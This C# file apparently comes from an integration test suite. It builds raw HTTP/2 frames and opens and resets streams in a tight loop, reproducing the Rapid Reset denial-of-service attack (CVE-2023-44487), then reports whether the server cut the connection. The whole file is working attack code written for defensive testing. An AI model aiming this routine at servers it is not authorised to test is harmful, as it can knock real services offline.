using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace AkkaFeeds.IntegrationTests.Edge;

/// <summary>
/// HTTP/2 frame by frame: streams that are opened and reset at once, as fast as can be (CVE-2023-44487).
/// </summary>
internal static class RapidReset
{
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte GoAway = 7;
    private const byte EndHeadersAndStream = 5;

    /// <summary>Does so; whether the server ended the connection before all were sent.</summary>
    public static async Task<bool> RunAsync(Uri http, int streams)
    {
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(20));
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(http.Host, http.Port, limit.Token);
        var stream = client.GetStream();
        await BeginAsync(stream, limit.Token);
        var reading = EndedAsync(stream, limit.Token);
        try
        {
            for (var number = 0; number < streams && !reading.IsCompleted; number++)
            {
                var id = (2 * number) + 1;
                byte[] both =
                [
                    .. Frame(Headers, EndHeadersAndStream, id, Request(http)),
                    .. Frame(ResetStream, 0, id, [0, 0, 0, 8]),
                ];
                await stream.WriteAsync(both, limit.Token);
            }
        }
        catch (IOException)
        {
            return true;
        }

        return await reading;
    }

    /// <summary>Begins a connection.</summary>
    public static async Task BeginAsync(NetworkStream stream, CancellationToken limit)
    {
        await stream.WriteAsync(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), limit);
        await stream.WriteAsync(Frame(Settings, 0, 0, []), limit);
    }

    /// <summary>
    /// The head of a request: GET, http and a path out of the static table; the authority as a literal.
    /// </summary>
    public static byte[] Request(Uri http)
    {
        var authority = Encoding.ASCII.GetBytes(http.Authority);
        return [0x82, 0x86, 0x84, 0x01, (byte)authority.Length, .. authority];
    }

    /// <summary>The bytes of a frame.</summary>
    public static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }

    /// <summary>Reads until the server ends the connection; false where it does not in time.</summary>
    public static async Task<bool> EndedAsync(NetworkStream stream, CancellationToken limit)
    {
        var head = new byte[9];
        try
        {
            while (true)
            {
                await stream.ReadExactlyAsync(head, limit);
                await stream.ReadExactlyAsync(new byte[(head[0] << 16) | (head[1] << 8) | head[2]], limit);
                if (head[3] == GoAway)
                {
                    return true;
                }
            }
        }
        catch (Exception end) when (end is IOException or EndOfStreamException)
        {
            return true;
        }
        catch (OperationCanceledException)
        {
            return false;
        }
    }
}
